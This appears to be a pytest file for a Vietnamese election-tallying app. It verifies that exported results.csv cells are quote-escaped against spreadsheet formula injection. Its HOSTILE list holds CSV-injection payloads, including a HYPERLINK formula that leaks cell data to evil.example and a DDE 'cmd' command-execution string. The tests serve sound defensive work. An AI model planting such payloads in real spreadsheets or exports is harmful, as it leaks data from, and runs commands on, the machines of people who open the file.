"""results.csv cannot carry a spreadsheet formula: an official's name like
``=HYPERLINK(...)`` arrives as text (issue 10)."""

from __future__ import annotations

import csv
import io
import json

import pytest

import ballot.accounts  # noqa: F401 - before the views (import order of the blueprints)
from ballot.counting import operations as counting
from ballot.counting.views import spreadsheet_cell
from ballot.db import db
from ballot.polls import operations as polls
from ballot.polls.models import Poll
from ballot.polls.quick import quick_vote
from ballot.voting.casting import cast
from tally.count import decrypt_with_share, parse_totals
from tests.voting_helpers import PASSPHRASES, OpenVote, ballot_body

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tNguyễn Văn Tab",
    "\rNguyễn Văn CR",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_get_a_quote(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "Phó Chủ tịch", 3, "66,67", "a=b"])
def test_plain_cells_unchanged(value) -> None:
    assert spreadsheet_cell(value) == value


def test_results_csv_with_hostile_names(app, client, auth, make_user):
    with app.app_context():
        made = quick_vote(
            "thuky",
            meeting="Kỳ họp",
            title="Lấy phiếu",
            kind="rating",
            officials=[(name, "=1+1") for name in HOSTILE],
            members=3,
            trustee_names=["A", "B", "C"],
            threshold=2,
            passphrases=PASSPHRASES,
        )
        vote = OpenVote(
            made.poll.id, made.poll.public_id, [c.code for c in made.printed], made.shares
        )
        cast(vote.poll_id, ballot_body(vote, 0, [1] * len(HOSTILE)))
        poll = db.session.get(Poll, vote.poll_id)
        polls.close_poll("thuky", poll)
        counting.start_count("thuky", poll)
        db.session.commit()
        manifest = counting.manifest_of(poll)
        totals, _ = parse_totals(json.loads(counting.get_count(poll).tally), manifest)
        for trustee in (1, 2):
            part = decrypt_with_share(
                manifest, totals, vote.shares[trustee - 1][1], PASSPHRASES[trustee - 1]
            )
            body = {"election_id": vote.public_id, "manifest": manifest.hash.hex()}
            counting.submit_partial("thuky", poll, body | part.to_json())
            db.session.commit()
        assert poll.state == "tallied"
    make_user("kiemtoan", role="auditor")
    auth.login("kiemtoan")
    data = client.get(f"/polls/{vote.public_id}/results.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))[1:]
    assert [r[1] for r in rows] == ["'" + name for name in HOSTILE]
    assert {r[2] for r in rows} == {"'=1+1"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
